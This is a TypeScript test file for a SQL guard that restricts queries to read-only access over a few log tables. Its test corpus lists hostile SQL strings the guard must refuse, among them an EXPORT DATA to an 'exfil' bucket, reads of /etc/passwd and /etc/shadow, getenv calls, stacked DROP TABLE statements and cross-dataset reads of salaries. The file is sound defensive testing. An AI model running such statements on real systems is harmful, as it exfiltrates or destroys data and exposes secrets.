import assert from "node:assert/strict";
import { describe, it } from "node:test";
import { SqlRefusedError } from "../../../functions/src/domain/errors.js";
import { guardSql, MAX_SQL_CHARS, type SqlGuardOptions } from "../../../functions/src/sql/guard.js";
import { bigQueryTarget, duckDbTarget } from "../../../functions/src/sql/targets.js";

const scope = {
  allowedTables: ["cloudaudit_googleapis_com_activity", "syslog", "compute_googleapis_com_vpc_flows"],
  dataset: "logs",
  project: "acme-prod",
};
const duck: SqlGuardOptions = { ...scope, maxRows: 1000, target: duckDbTarget };
const bq: SqlGuardOptions = { ...scope, maxRows: 1000, target: bigQueryTarget(scope) };

/** Each hostile statement with the words its refusal must contain. */
const HOSTILE: Array<[string, RegExp]> = [
  ["INSERT INTO syslog (textPayload) VALUES ('x')", /INSERT statements are not allowed \(data modification/],
  ["UPDATE syslog SET textPayload = 'x' WHERE true", /UPDATE statements are not allowed \(data modification/],
  ["DELETE FROM syslog WHERE true", /DELETE statements are not allowed \(data modification/],
  [
    "MERGE syslog T USING syslog S ON T.insertId = S.insertId WHEN MATCHED THEN DELETE",
    /MERGE statements .*data modification/,
  ],
  ["TRUNCATE TABLE syslog", /TRUNCATE statements .*data modification/],
  ["CREATE TABLE logs.copy AS SELECT * FROM syslog", /CREATE statements .*DDL/],
  ["DROP TABLE syslog", /DROP statements .*DDL/],
  ["ALTER TABLE syslog ADD COLUMN x INT64", /ALTER statements .*DDL/],
  [
    "GRANT `roles/bigquery.dataViewer` ON TABLE logs.syslog TO 'user:x@example.com'",
    /GRANT statements .*DCL/,
  ],
  ["DECLARE x INT64 DEFAULT 1", /DECLARE statements .*scripting/],
  ["SET @@dataset_id = 'other'", /SET statements .*scripting/],
  ["BEGIN TRANSACTION", /BEGIN statements .*scripting/],
  ["IF (SELECT COUNT(*) FROM syslog) > 0 THEN SELECT 1 END IF", /IF statements .*scripting/],
  ["LOOP SELECT 1 END LOOP", /LOOP statements .*scripting/],
  ["CALL logs.cleanup()", /CALL statements .*scripting/],
  ["EXECUTE IMMEDIATE 'DROP TABLE logs.syslog'", /EXECUTE statements .*scripting/],
  [
    "EXPORT DATA OPTIONS(uri='gs://exfil/out-*.csv', format='CSV') AS SELECT * FROM syslog",
    /EXPORT statements .*export or load/,
  ],
  [
    "LOAD DATA INTO logs.syslog FROM FILES (format='CSV', uris=['gs://x/y.csv'])",
    /LOAD statements .*export or load/,
  ],
  ["COPY syslog TO '/tmp/out.csv'", /COPY statements .*export or load/],
  ["ATTACH '/tmp/other.duckdb' AS other", /ATTACH statements .*engine administration/],
  ["INSTALL httpfs", /INSTALL statements .*engine administration/],
  ["PRAGMA show_tables", /PRAGMA statements .*engine administration/],
  ["SUMMARIZE syslog", /SUMMARIZE statements .*engine administration/],
  ["FROM syslog SELECT *", /FROM-first \(DuckDB\) syntax/],
  [
    "SELECT * FROM EXTERNAL_QUERY('us.conn', 'SELECT * FROM pg_shadow')",
    /function EXTERNAL_QUERY is not allowed/,
  ],
  ["SELECT * FROM read_csv('/etc/passwd')", /function read_csv is not allowed/],
  ["SELECT * FROM read_json_auto('/var/log/auth.json')", /function read_json_auto is not allowed/],
  ["SELECT * FROM read_parquet('s3://bucket/secrets.parquet')", /function read_parquet is not allowed/],
  ["SELECT content FROM read_text('/etc/shadow')", /function read_text is not allowed/],
  ["SELECT * FROM glob('/home/*')", /function glob is not allowed/],
  ["SELECT * FROM duckdb_settings()", /function duckdb_settings is not allowed/],
  ["SELECT getenv('HOME') FROM syslog", /function getenv is not allowed/],
  ["SELECT current_setting('enable_external_access') FROM syslog", /function current_setting is not allowed/],
  ["SELECT * FROM (SELECT * FROM read_csv_auto('data.csv'))", /function read_csv_auto is not allowed/],
  ["SELECT * FROM syslog, iceberg_scan('s3://lake/t')", /function iceberg_scan is not allowed/],
  ["SELECT ml.predict(1) FROM syslog", /function ml\.predict is not allowed \(user-defined, ML or external/],
  [
    "SELECT * FROM 'https://evil.example/payload.csv'",
    /cannot be a table: file and URL reads are not allowed/,
  ],
  ["SELECT * FROM '/etc/passwd'", /cannot be a table: file and URL reads are not allowed/],
  ['SELECT * FROM "data.csv"', /cannot be a table: file and URL reads are not allowed/],
  ["SELECT * FROM other_dataset.syslog", /dataset "other_dataset" is not allowed \(only "logs"\)/],
  ["SELECT * FROM `evil-project.logs.syslog`", /project "evil-project" is not allowed \(only "acme-prod"\)/],
  ["SELECT * FROM logs.billing_secrets", /table "billing_secrets" is not one of the log tables/],
  ["SELECT * FROM billing.INFORMATION_SCHEMA.TABLES", /INFORMATION_SCHEMA of "billing" is not allowed/],
  ["SELECT * FROM `region-us`.INFORMATION_SCHEMA.JOBS", /INFORMATION_SCHEMA of "region-us" is not allowed/],
  ["SELECT * FROM logs.INFORMATION_SCHEMA.SCHEMATA", /INFORMATION_SCHEMA\.SCHEMATA is not allowed/],
  ["SELECT * FROM `logs.cloudaudit_*`", /wildcard table "logs\.cloudaudit_\*" is not allowed/],
  ["SELECT * FROM syslog; SELECT * FROM syslog", /multiple statements are not allowed/],
  ["SELECT 1 FROM syslog;\n-- harmless?\nDROP TABLE syslog", /multiple statements are not allowed/],
  [
    "SELECT * FROM syslog WHERE insertId = (SELECT MAX(id) FROM secret_table)",
    /table "secret_table" is not one/,
  ],
  ["WITH t AS (SELECT * FROM hr.salaries) SELECT * FROM t", /dataset "hr" is not allowed/],
  ["SELECT * FROM syslog UNION ALL SELECT * FROM `acme-prod.other.users`", /dataset "other" is not allowed/],
  ["SELECT * FROM syslog s JOIN `acme-prod`.`hr`.`salaries` x ON TRUE", /dataset "hr" is not allowed/],
  ["WITH syslog AS (SELECT 1 AS x) SELECT * FROM syslog", /CTE name "syslog" shadows a log table/],
  ["SELECT * FROM syslog WHERE textPayload = ?", /positional \? parameters are not allowed/],
  ["SELECT * FROM syslog WHERE textPayload = $1", /\$ parameters are not BigQuery SQL/],
  ["SELECT @@project_id", /system variable @@project_id is not allowed/],
  ["SELECT * FROM syslog WHERE", /could not be parsed as BigQuery SQL/],
  ["SELECT * FROM syslog WHERE textPayload = 'unterminated", /unterminated string literal/],
  ["SELECT (SELECT 1 FROM syslog WHERE x IN (DELETE FROM syslog)) AS y", /keyword DELETE is not allowed/],
  [`SELECT '${"a".repeat(MAX_SQL_CHARS)}' FROM syslog`, /longer than 20000 characters/],
  ["", /the statement is empty/],
  // node-sql-parser drops what follows a parenthesized set operation; the coverage check catches it.
  [
    "(SELECT insertId FROM syslog) UNION DISTINCT (SELECT insertId FROM syslog) ORDER BY (SELECT MAX(x) FROM hr.salaries)",
    /parser did not account for/,
  ],
];

function refusal(sql: string, options: SqlGuardOptions): string {
  try {
    guardSql(sql, options);
  } catch (error) {
    assert.ok(error instanceof SqlRefusedError, `expected SqlRefusedError, got ${String(error)}`);
    assert.equal(error.retryable, false);
    return error.message;
  }
  assert.fail(`accepted: ${sql}`);
}

describe("guardSql refuses hostile statements", () => {
  it("has a corpus of at least 30 hostile statements", () => {
    assert.ok(HOSTILE.length >= 30, `only ${HOSTILE.length}`);
  });
  for (const [sql, reason] of HOSTILE) {
    it(`refuses ${JSON.stringify(sql.slice(0, 70))}`, () => {
      for (const options of [duck, bq]) {
        const message = refusal(sql, options);
        assert.match(message, /^query refused: /);
        assert.match(message, reason);
      }
    });
  }
});

describe("guardSql accepts read-only queries over the log tables", () => {
  it("keeps nested struct fields and parameters, qualifies the table for BigQuery and adds a LIMIT", () => {
    const sql = `SELECT timestamp, protopayload_auditlog.authenticationInfo.principalEmail AS principal
FROM cloudaudit_googleapis_com_activity
WHERE timestamp BETWEEN CAST(@start AS TIMESTAMP) AND CAST(@end AS TIMESTAMP)
ORDER BY timestamp`;
    const out = guardSql(sql, bq);
    assert.equal(
      out.sql,
      `SELECT timestamp, protopayload_auditlog.authenticationInfo.principalEmail AS principal
FROM \`acme-prod.logs.cloudaudit_googleapis_com_activity\`
WHERE timestamp BETWEEN CAST(@start AS TIMESTAMP) AND CAST(@end AS TIMESTAMP)
ORDER BY timestamp LIMIT 1000`,
    );
    assert.deepEqual(out.tables, ["cloudaudit_googleapis_com_activity"]);
    assert.deepEqual(out.params, ["start", "end"]);
    assert.equal(out.limit, 1000);
  });

  it("translates parameters, quoting, strings and UNNEST aliases for DuckDB", () => {
    const sql =
      "SELECT a.permission, \"granted\" AS word, r'\\d+' AS re FROM `acme-prod.logs.cloudaudit_googleapis_com_activity` t, " +
      "UNNEST(t.protopayload_auditlog.authorizationInfo) AS a WHERE t.timestamp >= CAST(@start AS TIMESTAMP) -- note";
    const out = guardSql(sql, duck);
    assert.equal(
      out.sql,
      "SELECT a.permission, 'granted' AS word, '\\d+' AS re FROM \"cloudaudit_googleapis_com_activity\" t, " +
        'UNNEST(t.protopayload_auditlog.authorizationInfo) AS a("a") WHERE t.timestamp >= CAST($start AS TIMESTAMP) LIMIT 1000',
    );
    assert.deepEqual(out.params, ["start"]);
  });

  it("accepts CTEs, aggregates and window functions", () => {
    const sql = `WITH per_ip AS (
  SELECT jsonPayload.connection.dest_ip AS ip, SUM(CAST(jsonPayload.bytes_sent AS INT64)) AS bytes, COUNT(*) AS flows
  FROM logs.compute_googleapis_com_vpc_flows
  GROUP BY ip
)
SELECT ip, bytes, flows, RANK() OVER (ORDER BY bytes DESC) AS rnk FROM per_ip WHERE bytes > 0 QUALIFY rnk <= 10 LIMIT 10`;
    const out = guardSql(sql, duck);
    assert.match(out.sql, /FROM "compute_googleapis_com_vpc_flows"\n/);
    assert.match(out.sql, /FROM per_ip WHERE bytes > 0 QUALIFY rnk <= 10 LIMIT 10$/);
    assert.deepEqual(out.tables, ["compute_googleapis_com_vpc_flows"]);
    assert.equal(out.limit, 10);
  });

  it("accepts UNION ALL across tables and every spelling of an allowed table", () => {
    const sql =
      "SELECT insertId FROM syslog UNION ALL SELECT insertId FROM logs.syslog UNION ALL SELECT insertId FROM acme-prod.logs.syslog " +
      "UNION ALL SELECT insertId FROM `acme-prod`.`logs`.`cloudaudit_googleapis_com_activity`";
    const out = guardSql(sql.replace("acme-prod.logs.syslog", "`acme-prod.logs.syslog`"), bq);
    assert.deepEqual(out.tables, ["syslog", "cloudaudit_googleapis_com_activity"]);
    assert.equal((out.sql.match(/`acme-prod\.logs\.syslog`/g) ?? []).length, 3);
  });

  it("keeps a LIMIT under the cap, lowers one above it and replaces a parameterized one", () => {
    assert.equal(guardSql("SELECT * FROM syslog LIMIT 5", duck).sql, 'SELECT * FROM "syslog" LIMIT 5');
    const lowered = guardSql("SELECT * FROM syslog ORDER BY timestamp LIMIT 50000 OFFSET 10", duck);
    assert.equal(lowered.sql, 'SELECT * FROM "syslog" ORDER BY timestamp LIMIT 1000 OFFSET 10');
    assert.equal(lowered.limit, 1000);
    const param = guardSql("SELECT * FROM syslog LIMIT @n", duck);
    assert.equal(param.sql, 'SELECT * FROM "syslog" LIMIT 1000');
    assert.deepEqual(param.params, []);
  });

  it("keeps ORDER BY and LIMIT after a parenthesized set operation", () => {
    const out = guardSql(
      "(SELECT insertId FROM syslog) UNION DISTINCT (SELECT insertId FROM syslog) ORDER BY insertId LIMIT 7",
      duck,
    );
    assert.equal(
      out.sql,
      '(SELECT insertId FROM "syslog") UNION DISTINCT (SELECT insertId FROM "syslog") ORDER BY insertId LIMIT 7',
    );
  });

  it("adds an outer LIMIT when only a subquery has one", () => {
    const out = guardSql("SELECT * FROM (SELECT textPayload FROM syslog LIMIT 5000)", duck);
    assert.equal(out.sql, 'SELECT * FROM (SELECT textPayload FROM "syslog" LIMIT 5000) LIMIT 1000');
  });

  it("drops comments (so a trailing comment cannot swallow the LIMIT) and a trailing semicolon", () => {
    const out = guardSql("SELECT 1 AS x FROM syslog /* ; DROP TABLE syslog */ -- trailing;\n;", duck);
    assert.equal(out.sql, 'SELECT 1 AS x FROM "syslog" LIMIT 1000');
  });

  it("does not mistake keywords inside strings, struct fields or EXTRACT for statements or tables", () => {
    const sql =
      "SELECT EXTRACT(HOUR FROM timestamp) AS h, jsonPayload.set AS s FROM syslog " +
      "WHERE textPayload LIKE '%DROP TABLE%' OR protopayload_auditlog.methodName LIKE '%delete%'";
    const out = guardSql(sql, duck);
    assert.deepEqual(out.tables, ["syslog"]);
    assert.match(out.sql, /LIKE '%DROP TABLE%' OR/);
  });

  it("accepts GoogleSQL function namespaces and a scalar subquery over an allowed table", () => {
    const sql =
      "SELECT SAFE.PARSE_TIMESTAMP('%Y', x) AS t, NET.IP_FROM_STRING(ip) AS b, " +
      "(SELECT MAX(timestamp) FROM cloudaudit_googleapis_com_activity) AS last FROM syslog";
    const out = guardSql(sql, bq);
    assert.deepEqual(out.tables, ["cloudaudit_googleapis_com_activity", "syslog"]);
  });

  it("renders the allowed dataset's INFORMATION_SCHEMA for each engine", () => {
    const sql = "SELECT column_name FROM logs.INFORMATION_SCHEMA.COLUMNS WHERE table_name = 'syslog'";
    assert.match(guardSql(sql, bq).sql, /FROM `acme-prod\.logs\.INFORMATION_SCHEMA\.COLUMNS` WHERE/);
    assert.match(guardSql(sql, duck).sql, /FROM information_schema\.columns WHERE/);
    assert.deepEqual(guardSql(sql, duck).tables, []);
  });
});
